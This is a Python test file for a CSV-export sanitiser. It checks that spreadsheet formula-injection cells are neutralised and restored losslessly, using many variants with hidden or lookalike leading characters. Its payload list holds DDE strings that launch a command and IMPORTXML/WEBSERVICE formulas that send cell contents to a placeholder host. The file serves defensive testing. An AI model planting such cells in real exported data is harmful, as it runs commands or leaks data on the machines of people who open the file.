from __future__ import annotations

import csv
import io
import sys
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from store.feeds.neutralise import find_unsafe, neutralise, restore

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example\",\"y\")",
    "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")", "=WEBSERVICE(\"http://x.example\")", "=DDE(\"cmd\";\"/C calc\")",
    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@IMPORTDATA(\"http://x.example\")",
)  # fmt: skip
BEFORE = (
    "",
    " ",
    "  ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\x00",
    "\u00a0",
    "\u3000",
    "\ufeff",
    "\u200b",
    "\u202e",
    '"',
    "'",
)
WIDE = tuple(sign + "1+1" for sign in "＝＋－＠﹢﹣﹦﹫⁺⁻⁼₊₋−➕➖")
SPLIT = tuple(f"a{split}{gap}{sign}1" for split in ";|" for gap in ("", " ", '"', "'") for sign in "=+-@")
PAYLOADS = tuple(dict.fromkeys([*(b + f for b in BEFORE for f in FORMULAS), *WIDE, *SPLIT]))

# What Excel, Google Sheets and LibreOffice are known to take for the beginning of a formula, or to drop before one.
# Written apart from the code under test: no table of it is used here.
STARTS = "=+-@＝＋－＠﹢﹣﹦﹫⁺⁻⁼₊₋−➕➖\t\r\n\x00"


def is_live(cell: str) -> bool:
    """Whether a spreadsheet could take this cell, or a part that it splits off, for a formula."""
    parts = [cell]
    for split in ";|\t\r\n":
        parts = [piece for part in parts for piece in part.split(split)]
    return any(_starts_formula(part) for part in parts)


def _starts_formula(part: str) -> bool:
    for char in part:
        if char.isspace() or unicodedata.category(char) in ("Cf", "Cc") or char == '"':
            if char in "\t\r\n\x00":
                return True
            continue
        return char in STARTS
    return False


def test_there_are_more_than_120_payloads_and_each_is_live_before() -> None:
    assert len(PAYLOADS) >= 120
    assert [cell for cell in PAYLOADS if not is_live(cell.replace("'", ""))] == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_is_live_and_each_comes_back_whole(payload: str) -> None:
    cell, changed = neutralise(payload)
    assert changed
    assert not is_live(cell)
    assert restore(cell) == payload


def test_what_needs_nothing_stays_as_it_is() -> None:
    for cell in ("", "Claude Max 20x", "合0.4/刀", "C:\\keys", "a@b.example", "https://x.example/?a=1;b=2", "'quoted", "5-10",
                 "a;b|c", "\\n"):  # fmt: skip
        assert neutralise(cell) == (cell, False)


@given(
    st.text(
        st.one_of(st.characters(), st.sampled_from("=+-@;|\\'\"\n\r\t nutU0＝ \u202e\ud800")), max_size=30
    )
)
@example("\\n\n")
@example("'=\\u003b;=")
def test_every_cell_comes_back_whole_and_none_is_live(cell: str) -> None:
    safe, changed = neutralise(cell)
    assert (restore(safe) if changed else safe) == cell
    assert changed == (safe != cell)
    assert not is_live(safe)
    assert not any(unicodedata.category(char) in ("Cc", "Cs", "Zl", "Zp") for char in safe)
    assert not any(
        char in safe for char in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"
    )
    assert safe.encode().decode() == safe


@given(st.lists(st.text(max_size=20), min_size=1, max_size=5))
def test_cells_pass_through_csv_unchanged(cells: list[str]) -> None:
    safe = [neutralise(cell)[0] for cell in cells]
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerow(safe)
    assert buffer.getvalue().count("\n") == 1
    assert next(csv.reader(io.StringIO(buffer.getvalue(), newline=""), strict=True)) == safe


@given(
    st.lists(
        st.text(
            st.one_of(st.characters(), st.sampled_from("=+-@;|\\'\"\n\r\t a中＝\u00a0\u202e\ud800")),
            max_size=8,
        ),
        min_size=1,
        max_size=8,
    )
)
@example(["", "", "=1"])
@example(["a;", "", "=1"])
@example(["a\n=1", "b"])
def test_a_batch_is_searched_for_every_cell_that_must_change(cells: list[str]) -> None:
    found = find_unsafe(cells)
    assert found == sorted(set(found))
    assert {at for at, cell in enumerate(cells) if neutralise(cell)[1]} <= set(found)


def test_every_character_that_begins_a_formula_by_its_compatibility_form_is_known() -> None:
    wide = [chr(code) for code in range(sys.maxunicode + 1)
            if (form := unicodedata.normalize("NFKC", chr(code))) and form[0] in "=+-@"]  # fmt: skip
    assert len(wide) > 15
    for char in wide:
        assert find_unsafe(["a", f"{char}1", f"a; {char}1"]) == [1, 2]
        assert neutralise(f"{char}1")[1]
        assert neutralise(f"a; {char}1")[1]


def test_a_batch_without_danger_is_left_alone() -> None:
    assert find_unsafe(["Claude Max 20x", "独享 - 30天", "https://x.example/?a=1;b=2", "", "5-10"]) == []
